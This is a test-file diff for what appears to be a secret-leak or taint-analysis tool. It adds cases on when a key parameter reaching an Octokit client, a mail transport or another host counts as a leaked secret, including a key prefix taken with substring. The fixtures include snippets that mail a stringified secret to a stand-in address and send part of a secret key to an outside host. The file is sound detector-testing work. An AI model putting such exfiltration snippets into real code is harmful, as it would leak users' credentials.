@@ -29,6 +29,39 @@ describe('a parameter that is used as a key is a secret', () => {
   });
 });
 
+describe('what a client is made with', () => {
+  const made = (way: string) =>
+    `const { Octokit } = require('@octokit/rest'); const n = require('nodemailer'); exports.x = (a) => { ${way} };`;
+  const secret = (way: string, to = 'net.out') => flows(follow(made(way)), 'param.secret', to);
+
+  it('is no secret to that client', () => {
+    expect(secret('return new Octokit({ auth: a }).repos.createRelease({ tag_name: a });')).toBeUndefined();
+  });
+
+  it.each([
+    ['another host', 'net.out', `new Octokit({ auth: a }); ${SENT} a });`],
+    ['who gets the mail', 'mail.out', "n.createTransport(a).sendMail({ to: 'x@c.example', text: JSON.stringify(a) });"],
+  ])('is one to %s', (_name, to, way) => {
+    expect(secret(way, to)).toBeDefined();
+  });
+});
+
+describe('the beginning of a key', () => {
+  const through = (part: string) =>
+    flows(follow(`exports.x = (a) => { ${SENT} a.secretKey.${part} }); };`), 'param.secret', 'net.out')?.taints.some(
+      (each) => each.through.includes('beginning'),
+    );
+
+  it('is told from the key', () => {
+    expect(through('substring(0, 16)')).toBe(true);
+    expect(through('substr(0, 8)')).toBe(true);
+  });
+
+  it.each(['substring(0, 64)', 'substring(16, 32)', 'substring(0)', 'substring(0, n)'])('not %s', (part) => {
+    expect(through(part)).toBe(false);
+  });
+});
+
 describe('a field keeps its name', () => {
   it.each([
     'const o = { retries: 2, ...a }; const k = o.privateKey',
